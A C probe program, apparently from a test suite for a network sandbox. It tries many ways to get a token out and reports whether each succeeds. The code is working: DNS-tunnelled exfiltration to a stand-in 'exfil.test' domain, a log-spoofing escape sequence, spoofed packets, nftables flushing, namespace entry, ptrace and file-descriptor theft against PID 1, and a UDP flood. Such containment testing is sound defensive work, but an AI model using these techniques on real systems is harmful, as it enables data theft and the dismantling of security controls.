/*
 * What an attack does by system calls of its own, past the JDK.
 *
 *   attack TECHNIQUE ADDRESS PORT TOKEN
 *
 * Prints one line: "done", when the call went through; "refused: REASON", when the kernel did not allow it;
 * "absent: REASON", when the kernel has no such thing. That a packet was handed to the kernel ("done") says nothing of
 * whether it arrived.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#define UDP_SEGMENT_OPTION 103
#define ANSWER_MS 700

static const char *address, *port, *name;
static char token[80]; /* the name, and an end that is no part of any */
static struct sockaddr_storage to;
static socklen_t to_length;

static int absent(int error) {
  return error == EPROTONOSUPPORT || error == ESOCKTNOSUPPORT || error == ENOPROTOOPT || error == ENOSYS;
}

static int say(int done) {
  int error = errno;
  if (done) puts("done");
  else printf("%s: %s\n", absent(error) ? "absent" : "refused", strerror(error));
  return 0;
}

static void resolve(void) {
  struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV}, *found;
  int error = getaddrinfo(address, port, &hints, &found);
  if (error) {
    printf("absent: %s: %s\n", address, gai_strerror(error));
    exit(0);
  }
  memcpy(&to, found->ai_addr, found->ai_addrlen);
  to_length = found->ai_addrlen;
}

static int new_socket(int type, int protocol) {
  int s = socket(to.ss_family, type, protocol);
  if (s < 0) exit(say(0));
  return s;
}

/* Something came back: an answer, or a host's own refusal. */
static int heard_of(int s) {
  struct pollfd one = {.fd = s, .events = POLLIN};
  return poll(&one, 1, ANSWER_MS) == 1;
}

static size_t question(unsigned char *bytes, const char *rest) {
  size_t n = 0;
  while (*rest) {
    size_t length = strcspn(rest, ".");
    bytes[n++] = length;
    memcpy(bytes + n, rest, length);
    n += length;
    rest += length + (rest[length] == '.');
  }
  memcpy(bytes + n, "\0\0\1\0\1", 5);
  return n + 5;
}

/* A DNS message with that many questions, the last of which has the token; the answers' count is 0. */
static size_t query(unsigned char *bytes, int questions, const char *first_label) {
  char whole[256];
  memcpy(bytes, "\x12\x34\1\0\0\0\0\0\0\0\0\0", 12);
  bytes[5] = questions;
  size_t n = 12;
  if (questions > 1) n += question(bytes + n, "localhost");
  snprintf(whole, sizeof whole, "%s.exfil.test", first_label);
  return n + question(bytes + n, whole);
}

static int udp(const char *how) {
  unsigned char bytes[4096];
  size_t length = strlen(token);
  memset(bytes, '.', sizeof bytes);
  memcpy(bytes, token, length);
  int s = new_socket(SOCK_DGRAM, 0), on = 1, done;
  struct iovec part = {bytes, length};
  struct msghdr message = {.msg_name = &to, .msg_namelen = to_length, .msg_iov = &part, .msg_iovlen = 1};
  if (!strncmp(how, "dns", 3)) {
    char label[64] = "";
    snprintf(label, sizeof label, "%s", name);
    if (!strcmp(how, "dns-escapes")) snprintf(label, sizeof label, "%s\x1b[2J\r\n[INFO] BUILD SUCCESS", name);
    length = query(bytes, strcmp(how, "dns-two") ? 1 : 2, label);
  }
  if (!strcmp(how, "from-53")) {
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(53)};
    if (bind(s, (struct sockaddr *)&from, sizeof from)) return say(0);
  }
  if (!strcmp(how, "spoofed")) {
    struct sockaddr_in from = {.sin_family = AF_INET};
    inet_pton(AF_INET, getenv("SPOOFED"), &from.sin_addr);
    if (setsockopt(s, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on)) setsockopt(s, IPPROTO_IP, IP_FREEBIND, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&from, sizeof from)) return say(0);
  }
  if (!strcmp(how, "record-route")) {
    unsigned char option[12] = {IPOPT_RR, 11, 4};
    if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, option, sizeof option)) return say(0);
  }
  if (!strcmp(how, "device") && setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5)) return say(0);
  if (!strcmp(how, "broadcast")) {
    /* By the device, as the network has no way out. */
    if (setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on)) return say(0);
    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "eth0", 5)) return say(0);
  }
  if (!strcmp(how, "sendmsg")) return say(sendmsg(s, &message, 0) > 0);
  if (!strcmp(how, "sendmmsg")) {
    struct mmsghdr two[2] = {{.msg_hdr = message}, {.msg_hdr = message}};
    return say(sendmmsg(s, two, 2, 0) > 0);
  }
  if (!strcmp(how, "segments")) {
    int size = 600;
    if (setsockopt(s, IPPROTO_UDP, UDP_SEGMENT_OPTION, &size, sizeof size)) return say(0);
    length = 1200;
  }
  if (!strcmp(how, "fragments")) length = sizeof bytes;
  if (!strcmp(how, "empty")) length = 0;
  if (!strcmp(how, "dontroute")) return say(sendto(s, bytes, length, MSG_DONTROUTE, (void *)&to, to_length) >= 0);
  if (!strcmp(how, "corked")) {
    sendto(s, bytes, length, MSG_MORE, (void *)&to, to_length);
    return say(sendto(s, bytes, length, 0, (void *)&to, to_length) >= 0);
  }
  if (!strcmp(how, "connected")) {
    if (connect(s, (void *)&to, to_length)) return say(0);
    done = send(s, bytes, length, 0) >= 0 && (!heard_of(s) || recv(s, bytes, sizeof bytes, MSG_DONTWAIT) >= 0);
    return say(done);
  }
  return say(sendto(s, bytes, length, 0, (void *)&to, to_length) >= 0);
}

static int tcp(const char *how) {
  unsigned char bytes[1024];
  size_t length = strlen(token);
  memcpy(bytes, token, length);
  int s = new_socket(SOCK_STREAM, !strcmp(how, "multipath") ? IPPROTO_MPTCP : 0);
  if (!strncmp(how, "dns", 3)) {
    length = 0;
    for (int messages = strcmp(how, "dns-two") ? 1 : 2; messages > 0; messages--) {
      size_t n = query(bytes + length + 2, 1, name);
      bytes[length] = n >> 8;
      bytes[length + 1] = n;
      length += 2 + n;
    }
  }
  if (!strcmp(how, "fastopen") || !strncmp(how, "dns", 3)) {
    /* The data goes with the first segment where the other side allows it. */
    if (sendto(s, bytes, length, MSG_FASTOPEN, (void *)&to, to_length) >= 0) return say(1);
    if (errno != EOPNOTSUPP) return say(0);
  }
  struct timeval limit = {1, 0};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  return say(connect(s, (void *)&to, to_length) == 0 && send(s, bytes, length, 0) > 0);
}

/* An echo request with the token in it, by the socket that needs no privilege where the engine lets all have it. */
static int ping(void) {
  unsigned char packet[64] = {to.ss_family == AF_INET ? ICMP_ECHO : ICMP6_ECHO_REQUEST};
  memcpy(packet + 8, token, strlen(token));
  int number = to.ss_family == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6;
  int s = socket(to.ss_family, SOCK_DGRAM, number);
  if (s < 0) s = new_socket(SOCK_RAW, number);
  ((struct sockaddr_in *)&to)->sin_port = 0;
  return say(sendto(s, packet, 8 + strlen(token), 0, (void *)&to, to_length) > 0);
}

/* A packet of any protocol: first by the protocol's own socket, then by a raw one. */
static int protocol(int number, int type) {
  unsigned char packet[64] = {0};
  memcpy(packet + 8, token, strlen(token));
  int s = socket(to.ss_family, type, number), own = s >= 0;
  if (own) {
    struct timeval limit = {1, 0};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    own = connect(s, (void *)&to, to_length) == 0 && send(s, token, strlen(token), 0) > 0;
  }
  if (own) return say(1);
  s = socket(to.ss_family, SOCK_RAW, number);
  if (s < 0) return say(0);
  ((struct sockaddr_in *)&to)->sin_port = 0;
  return say(sendto(s, packet, 8 + strlen(token), 0, (void *)&to, to_length) > 0);
}

static int packet_socket(void) {
  struct sockaddr_ll all = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
  int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (s < 0) return say(0);
  unsigned char ip[60] = {0x45, 0, 0, 60, 0, 0, 0, 0, 64, 253};
  memset(all.sll_addr, 0xff, 6);
  all.sll_ifindex = if_nametoindex("eth0");
  memcpy(ip + 16, &((struct sockaddr_in *)&to)->sin_addr, 4);
  memcpy(ip + 20, token, strlen(token));
  return say(sendto(s, ip, sizeof ip, 0, (void *)&all, sizeof all) > 0);
}

/* Every family but those that netfilter sees: which of them can be made, of any type? */
static int families(int only) {
  static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM};
  char opened[512] = "";
  int last = EAFNOSUPPORT;
  for (int family = 0; family < 64; family++) {
    if (only >= 0 && family != only) continue;
    if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK) continue;
    for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
      int s = socket(family, types[i], 0);
      if (s < 0) {
        last = errno;
        continue;
      }
      close(s);
      snprintf(opened + strlen(opened), sizeof opened - strlen(opened), " %d", family);
      break;
    }
  }
  if (*opened) printf("done: opened%s\n", opened);
  else printf("refused: %s\n", strerror(last));
  return 0;
}

static int io_uring(void) {
  unsigned char parameters[120] = {0};
  return say(syscall(425, 4, parameters) >= 0);
}

/* Tells everybody on the link a group's address, which is the attacker's to choose. */
static int join(void) {
  struct group_req request = {.gr_interface = if_nametoindex("eth0")};
  memcpy(&request.gr_group, &to, to_length);
  int level = to.ss_family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
  int s = new_socket(SOCK_DGRAM, 0);
  int done = setsockopt(s, level, MCAST_JOIN_GROUP, &request, sizeof request) == 0;
  int error = errno;
  if (done) usleep(1500000); /* the report comes with a delay, and leaving says it again */
  errno = error;
  return say(done);
}

/* Sends a netlink message, and returns what the kernel answers. */
static int netlink(int family, void *message, unsigned length) {
  unsigned char bytes[4096];
  int s = socket(AF_NETLINK, SOCK_RAW, family);
  if (s < 0 || send(s, message, length, 0) < 0) return say(0);
  struct pollfd one = {.fd = s, .events = POLLIN};
  if (poll(&one, 1, 2000) != 1 || recv(s, bytes, sizeof bytes, 0) < 20) {
    errno = ETIMEDOUT;
    return say(0);
  }
  struct nlmsghdr *head = (void *)bytes;
  errno = head->nlmsg_type == NLMSG_ERROR ? -((struct nlmsgerr *)NLMSG_DATA(head))->error : 0;
  return say(errno == 0);
}

/* A batch that deletes the tables of both families. */
static int nft_flush(void) {
  struct {
    struct nlmsghdr head;
    struct nfgenmsg body;
  } batch[3] = {
      {{sizeof batch[0], NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, 1, 0}, {AF_UNSPEC, 0, htons(NFNL_SUBSYS_NFTABLES)}},
      {{sizeof batch[0], NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, 2, 0}, {AF_UNSPEC}},
      {{sizeof batch[0], NFNL_MSG_BATCH_END, NLM_F_REQUEST, 3, 0}, {AF_UNSPEC, 0, htons(NFNL_SUBSYS_NFTABLES)}}};
  return netlink(NETLINK_NETFILTER, batch, sizeof batch);
}

static int route_by_netlink(void) {
  struct {
    struct nlmsghdr head;
    struct ifinfomsg body;
  } down = {{sizeof down, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0},
            {.ifi_family = AF_UNSPEC, .ifi_index = if_nametoindex("lo"), .ifi_change = IFF_UP, .ifi_flags = IFF_UP}};
  return netlink(NETLINK_ROUTE, &down, sizeof down);
}

/* In namespaces of its own it is root, and has a network without a way out of it. */
static int unshare_network(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNET)) return say(0);
  int s = socket(to.ss_family, SOCK_DGRAM, 0);
  return say(s >= 0 && sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0);
}

static int enter_network(void) {
  int namespace = open("/proc/1/ns/net", O_RDONLY);
  return say(namespace >= 0 && setns(namespace, CLONE_NEWNET) == 0);
}

static int trace(pid_t target) {
  if (ptrace(PTRACE_SEIZE, target, 0, 0)) return say(0);
  ptrace(PTRACE_DETACH, target, 0, 0);
  return say(1);
}

static int steal_descriptor(pid_t target) {
  int process = syscall(434, target, 0);
  return say(process >= 0 && syscall(438, process, 0, 0) >= 0);
}

static int unix_socket(const char *path) {
  struct sockaddr_un socket_name = {.sun_family = AF_UNIX};
  snprintf(socket_name.sun_path, sizeof socket_name.sun_path, "%s", path);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  return say(connect(s, (void *)&socket_name, sizeof socket_name) == 0);
}

/* As a program that is setuid, or has capabilities: did it gain any privilege? */
static int privileges(void) {
  if (geteuid() == 0) return say(1);
  return say(socket(AF_INET, SOCK_RAW, IPPROTO_RAW) >= 0);
}

/* Many to another port, and one to its own. */
static int flood(int packets) {
  struct sockaddr_in next = *(struct sockaddr_in *)&to;
  next.sin_port = htons(ntohs(next.sin_port) + 1000);
  int s = new_socket(SOCK_DGRAM, 0);
  for (int i = 0; i < packets; i++) sendto(s, "flood", 5, 0, (void *)&next, sizeof next);
  int sent = sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0;
  /* Again when whoever hears it has had the time to hear all the others. */
  sleep(2);
  return say(sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0 || sent);
}

/* Waits for a stranger who calls, and says whether anything came. */
static int listen_for(int type) {
  struct sockaddr_in6 any = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(port))};
  int s = socket(AF_INET6, type, 0), on = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (bind(s, (void *)&any, sizeof any) || (type == SOCK_STREAM && listen(s, 5))) return say(0);
  struct pollfd one = {.fd = s, .events = POLLIN};
  errno = ETIMEDOUT;
  return say(poll(&one, 1, 1500) == 1);
}

/* Answers the stranger whose packets came before there was a lock, from the port that they came to. */
static int answer_the_stranger(void) {
  struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("STRANGER")))};
  int s = socket(AF_INET, SOCK_DGRAM, 0), done = 0;
  if (bind(s, (void *)&from, sizeof from)) return say(0);
  for (int i = 0; i < 20; i++) {
    done |= sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0;
    usleep(20000);
  }
  return say(done);
}

int main(int count, char **words) {
  if (count != 5) return 2;
  const char *technique = words[1];
  address = words[2], port = words[3], name = words[4];
  snprintf(token, sizeof token, "%s!", name);
  if (*address) resolve();
  const char *how = strchr(technique, '-') ? strchr(technique, '-') + 1 : "";
  if (!strncmp(technique, "udp-", 4)) return udp(how);
  if (!strncmp(technique, "tcp-", 4)) return tcp(how);
  if (!strcmp(technique, "ping")) return ping();
  if (!strcmp(technique, "proto-sctp")) return protocol(IPPROTO_SCTP, SOCK_STREAM);
  if (!strcmp(technique, "proto-dccp")) return protocol(33, 6);
  if (!strcmp(technique, "proto-udplite")) return protocol(136, SOCK_DGRAM);
  if (!strcmp(technique, "proto-gre")) return protocol(47, SOCK_DGRAM);
  if (!strcmp(technique, "proto-ipip")) return protocol(4, SOCK_DGRAM);
  if (!strcmp(technique, "proto-icmp")) return protocol(1, SOCK_STREAM);
  if (!strcmp(technique, "packet")) return packet_socket();
  if (!strcmp(technique, "families")) return families(-1);
  if (!strcmp(technique, "vsock")) return families(AF_VSOCK);
  if (!strcmp(technique, "io-uring")) return io_uring();
  if (!strcmp(technique, "join")) return join();
  if (!strcmp(technique, "nft-flush")) return nft_flush();
  if (!strcmp(technique, "netlink-route")) return route_by_netlink();
  if (!strcmp(technique, "unshare")) return unshare_network();
  if (!strcmp(technique, "setns")) return enter_network();
  if (!strcmp(technique, "mount")) return say(mount("none", "/mnt", "tmpfs", 0, "") == 0);
  if (!strcmp(technique, "trace-1")) return trace(1);
  if (!strcmp(technique, "descriptor-1")) return steal_descriptor(1);
  if (!strcmp(technique, "unix")) return unix_socket(getenv("UNIX"));
  if (!strcmp(technique, "privileges")) return privileges();
  if (!strcmp(technique, "flood")) return flood(30000);
  if (!strcmp(technique, "listen-udp")) return listen_for(SOCK_DGRAM);
  if (!strcmp(technique, "listen-tcp")) return listen_for(SOCK_STREAM);
  if (!strcmp(technique, "answer")) return answer_the_stranger();
  printf("absent: no technique '%s'\n", technique);
  return 2;
}
